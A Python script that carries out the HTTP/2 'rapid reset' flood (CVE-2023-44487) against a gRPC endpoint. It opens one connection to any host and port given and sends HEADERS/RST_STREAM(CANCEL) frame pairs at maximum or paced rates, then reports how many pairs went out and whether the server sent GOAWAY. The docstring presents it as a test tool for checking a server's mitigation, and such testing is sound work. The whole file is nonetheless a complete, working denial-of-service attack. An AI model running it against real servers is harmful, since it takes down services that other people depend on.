#!/usr/bin/python3
"""HTTP/2 "rapid reset" flood (CVE-2023-44487) against a gRPC server.

One plain-text HTTP/2 connection over a socket: Debian's python3-h2 writes
the connection preface and SETTINGS, and its HPACK encoder the request's
header block (POST /cgacct.v1.Accounting/GetEngineInfo, a gRPC request with
no message yet). Then, for SECONDS, as fast as the socket takes them:
HEADERS on a new stream followed at once by RST_STREAM(CANCEL), 1,000 pairs
per write. The frames are written directly (h2's state machine costs ~150
us per pair, which caps a flood at ~5k pairs/s); what the server sends
meanwhile is read without waiting: SETTINGS and PING are acknowledged,
GOAWAY ends the flood. Then the connection is closed.

  rapid_reset_flood.py HOST PORT [SECONDS [RATE]]
    SECONDS  default 8
    RATE     pairs per second, 0 (the default) = as fast as possible;
             with a rate, writes are 100 pairs, paced

Prints one JSON line: pairs sent, seconds, pairs/s, the GOAWAY error code
if the server sent one, whether the server closed the connection. Exit
status 0 unless the connection could not be made. A test tool: used by
rapid_reset_test.py.
"""
import json
import select
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import hpack

PAIRS_PER_WRITE = 1000
CANCEL = 0x8
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS, ACK = 0x4, 0x1


def frame(kind, flags, stream_id, payload):
    return (struct.pack(">I", len(payload))[1:] +
            struct.pack(">BBI", kind, flags, stream_id) + payload)


def flood(host, port, seconds, rate=0):
    sock = socket.create_connection((host, port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/cgacct.v1.Accounting/GetEngineInfo"),
        (":authority", "%s:%d" % (host, port)),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    encoder = hpack.Encoder()
    first_block = encoder.encode(headers)  # fills the dynamic table
    block = encoder.encode(headers)  # indexed: the same bytes every time
    rst_payload = struct.pack(">I", CANCEL)
    stream_id = 1
    pairs = 0
    goaway = None
    closed = False
    pending = b""
    start = time.monotonic()
    end = start + seconds
    per_write = PAIRS_PER_WRITE if rate <= 0 else 100
    while time.monotonic() < end and goaway is None and not closed:
        if rate > 0:
            ahead = start + pairs / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
        out = []
        for _ in range(per_write):
            out.append(frame(HEADERS, END_HEADERS, stream_id,
                             first_block if stream_id == 1 else block))
            out.append(frame(RST_STREAM, 0, stream_id, rst_payload))
            stream_id += 2
        try:
            sock.sendall(b"".join(out))
        except OSError:
            closed = True
            break
        pairs += per_write
        # What the server sent meanwhile (without waiting).
        replies = []
        while True:
            readable, _, _ = select.select([sock], [], [], 0)
            if not readable:
                break
            try:
                data = sock.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                closed = True
                break
            pending += data
            while len(pending) >= 9:
                length = int.from_bytes(pending[:3], "big")
                if len(pending) < 9 + length:
                    break
                kind, flags = pending[3], pending[4]
                payload = pending[9:9 + length]
                pending = pending[9 + length:]
                if kind == SETTINGS and not flags & ACK:
                    replies.append(frame(SETTINGS, ACK, 0, b""))
                elif kind == PING and not flags & ACK:
                    replies.append(frame(PING, ACK, 0, payload))
                elif kind == GOAWAY:
                    goaway = int.from_bytes(payload[4:8], "big")
        if replies and not closed:
            try:
                sock.sendall(b"".join(replies))
            except OSError:
                closed = True
    elapsed = time.monotonic() - start
    sock.close()
    return {
        "pairs": pairs,
        "seconds": round(elapsed, 3),
        "pairs_per_s": round(pairs / elapsed) if elapsed > 0 else 0,
        "goaway": goaway,
        "closed_by_server": closed,
    }


def main():
    if len(sys.argv) < 3:
        print(__doc__, file=sys.stderr)
        return 2
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 8.0
    rate = float(sys.argv[4]) if len(sys.argv) > 4 else 0.0
    print(json.dumps(flood(sys.argv[1], int(sys.argv[2]), seconds, rate)),
          flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
